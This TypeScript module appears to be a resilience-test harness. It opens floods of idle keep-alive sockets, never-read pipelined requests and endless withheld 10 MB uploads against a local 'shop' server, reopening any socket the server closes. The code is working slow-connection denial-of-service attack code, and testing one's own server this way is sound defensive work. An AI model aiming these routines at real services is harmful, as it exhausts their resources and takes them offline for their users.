import { connect, type Socket } from 'node:net';
import type { Attack, Hostile, Target } from './attack.ts';

const AGAIN_MS = 1_000;

type Holding = { address: string; count: number; open: (socket: Socket) => void };

/** Holds sockets open and replaces those that the shop closes. */
function hold({ port }: Target, { address, count, open }: Holding): Hostile {
  let opened = 0;
  let closedByShop = 0;
  const sockets = new Set<Socket>();
  const fill = () => {
    while (sockets.size < count) {
      const socket = connect({ port, host: '127.0.0.1', localAddress: address });
      sockets.add(socket);
      opened++;
      socket.on('connect', () => open(socket));
      socket.on('error', () => {});
      socket.on('close', () => {
        sockets.delete(socket);
        closedByShop++;
      });
    }
  };
  fill();
  const again = setInterval(fill, AGAIN_MS);
  return {
    stop: async () => {
      clearInterval(again);
      for (const socket of sockets) socket.removeAllListeners('close').destroy();
    },
    summary: () => `${opened} sockets, of which ${closedByShop} were seen closed`,
  };
}

export const idleSockets: Attack = {
  name: 'idle sockets',
  about: '1,000 keep-alive sockets of one address on which nothing happens',
  begin: (target) =>
    hold(target, {
      address: '127.0.9.2',
      count: 1_000,
      open: (socket) => {
        socket.resume();
        socket.write('GET /api/categories HTTP/1.1\r\nHost: shop\r\nConnection: keep-alive\r\n\r\n');
      },
    }),
};

export const neverReading: Attack = {
  name: 'never reading',
  about: '400 readers that ask for pages and never read them',
  begin: (target) =>
    hold(target, {
      address: '127.0.9.3',
      count: 400,
      open: (socket) => {
        socket.pause();
        socket.write('GET / HTTP/1.1\r\nHost: shop\r\n\r\n'.repeat(50));
      },
    }),
};

const picture = Buffer.alloc(10 * 1024 * 1024, 7);

/** Sends everything but the last bytes, so that the form never ends. */
function withheldUpload(path: string, token: string): (socket: Socket) => void {
  const head = [
    ...['--x', 'Content-Disposition: form-data; name="image"; filename="a.jpg"', 'Content-Type: image/jpeg'],
    '\r\n',
  ].join('\r\n');
  const length = head.length + picture.length + 1_000;
  const request = [
    ...[`POST ${path} HTTP/1.1`, 'Host: shop', `Authorization: Bearer ${token}`],
    ...['Content-Type: multipart/form-data; boundary=x', `Content-Length: ${length}`, '', head],
  ].join('\r\n');
  return (socket) => {
    socket.resume();
    socket.write(request);
    socket.write(picture);
  };
}

export function withheldUploads({ path, token }: { path: string; token: string }): Attack {
  return {
    name: 'withheld uploads',
    about: '200 uploads of 10 MB whose end is withheld',
    begin: (target) => hold(target, { address: '127.0.9.4', count: 200, open: withheldUpload(path, token) }),
  };
}
